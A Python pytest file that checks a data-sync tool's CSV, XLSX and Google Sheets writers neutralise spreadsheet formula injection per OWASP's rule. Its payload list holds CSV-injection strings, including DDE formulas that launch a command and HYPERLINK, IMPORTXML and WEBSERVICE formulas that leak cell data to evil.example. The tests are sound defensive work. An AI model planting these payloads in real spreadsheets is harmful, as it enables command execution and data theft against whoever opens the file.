"""Formula-injection payloads through every path that writes spreadsheet cells: none becomes a formula.

Paths: the files connector into CSV and into XLSX (create and update), the Sheets connector into the
Sheets stand-in (create and update; the stand-in models formulas as Google does), and the `csv`
transform that builds spreadsheet text. A stored cell is judged by OWASP's rule (CSV injection),
written out here rather than borrowed from syncd: it must not start with = + - @ (unless it is a
plain number) or with a tab or carriage return. Every payload must also read back unchanged.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from openpyxl import load_workbook

from connectors.files import FilesConnector, FilesSettings
from connectors.sheets import SheetsConnector, SheetsSettings
from syncd.records import Op, WriteOp
from syncd.sandbox.sheets import SheetsSandbox
from syncd.transforms import compile_transform

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    '=DDE("cmd";"/C calc";"!A0")',
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "'=1+1",
    "''+1+1",
    "=1+1\n=2+2",
    "@",
    "-",
    "+",
    "=",
]
NUMBERS = ["-5", "+1.5e3", "-0.25"]  # plain numbers: a spreadsheet reads them as numbers, not formulas
_NUMBER = re.compile(r"\s*[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?\s*")


def would_run(cell: object) -> bool:
    """OWASP: a cell a spreadsheet program would evaluate when it opens the file."""
    if not isinstance(cell, str) or not cell:
        return False
    if cell[0] in "\t\r":
        return True
    return cell.lstrip()[:1] in ("=", "+", "-", "@") and not _NUMBER.fullmatch(cell)


def ops() -> list[WriteOp]:
    creates = [
        WriteOp(Op.CREATE, {"Id": f"C{n}", "Notes": p}, match=("Id", f"C{n}")) for n, p in enumerate(PAYLOADS)
    ]
    numbers = [
        WriteOp(Op.CREATE, {"Id": f"N{n}", "Notes": v}, match=("Id", f"N{n}")) for n, v in enumerate(NUMBERS)
    ]
    return creates + numbers


def updates() -> list[WriteOp]:
    return [
        WriteOp(Op.UPDATE, {"Notes": p, "Id": f"C{n}"}, key=f"C{n}") for n, p in enumerate(reversed(PAYLOADS))
    ]


def expected_after_update() -> dict[str, str]:
    return {f"C{n}": p for n, p in enumerate(reversed(PAYLOADS))} | {
        f"N{n}": v for n, v in enumerate(NUMBERS)
    }


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_files_connector_never_stores_a_formula(tmp_path: Path, kind: str) -> None:
    path = tmp_path / "book.xlsx" if kind == "xlsx" else tmp_path
    files = FilesConnector("sheet", FilesSettings(path=path, keys={"People": "Id"}), tmp_path)
    assert all(r.ok for r in files.write("People", ops()))
    assert all(r.ok for r in files.write("People", updates()))
    if kind == "csv":
        with (tmp_path / "People.csv").open(newline="", encoding="utf-8-sig") as fh:
            stored = [cell for row in csv.reader(fh) for cell in row]
    else:
        sheet = load_workbook(path)["People"]
        assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
        stored = [c.value for row in sheet.iter_rows() for c in row]
    assert [c for c in stored if would_run(c)] == []
    back = {r.key: r.fields["Notes"] for b in files.read("People", None) for r in b.records}
    assert {k: str(v) for k, v in back.items()} == expected_after_update()


@pytest.fixture
def sheets_server() -> Iterator[SheetsSandbox]:
    server = SheetsSandbox(tls=True).start()
    server.quotas.read_per_minute = server.quotas.write_per_minute = None
    try:
        yield server
    finally:
        server.stop()


def test_sheets_connector_never_stores_a_formula(tmp_path: Path, sheets_server: SheetsSandbox) -> None:
    spreadsheet = sheets_server.create_spreadsheet("people", {"People": [["Id", "Notes"]]})
    info = sheets_server.info()
    settings = SheetsSettings(
        spreadsheet=spreadsheet,
        service_account_file=Path(info["service_account_file"]),
        endpoint=info["base_url"],
        ca_file=Path(info["ca_file"]),
        keys={"People": "Id"},
        backoff_seconds=0,
    )
    sheets = SheetsConnector("roster", settings, tmp_path)
    try:
        assert all(r.ok for r in sheets.write("People", ops()))
        assert all(r.ok for r in sheets.write("People", updates()))
        back = {r.key: r.fields["Notes"] for b in sheets.read("People", None) for r in b.records}
    finally:
        sheets.close()
    formulas = sheets_server.values(spreadsheet, "People", "FORMULA")
    evaluated = sheets_server.values(spreadsheet, "People", "UNFORMATTED_VALUE")
    assert formulas == evaluated, "a cell holds a formula (its formula and its value differ)"
    assert [c for row in formulas for c in row if would_run(c)] == []
    assert {k: str(v) for k, v in back.items()} == expected_after_update()


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_transform_text_never_starts_a_formula(payload: str) -> None:
    text = compile_transform({"csv": [payload, "Name"]}).forward([{payload: payload, "Name": payload}])
    assert isinstance(text, str)
    cells = [cell for row in csv.reader(text.splitlines()) for cell in row]
    assert len(cells) >= 4 and not any(would_run(c) for c in cells)
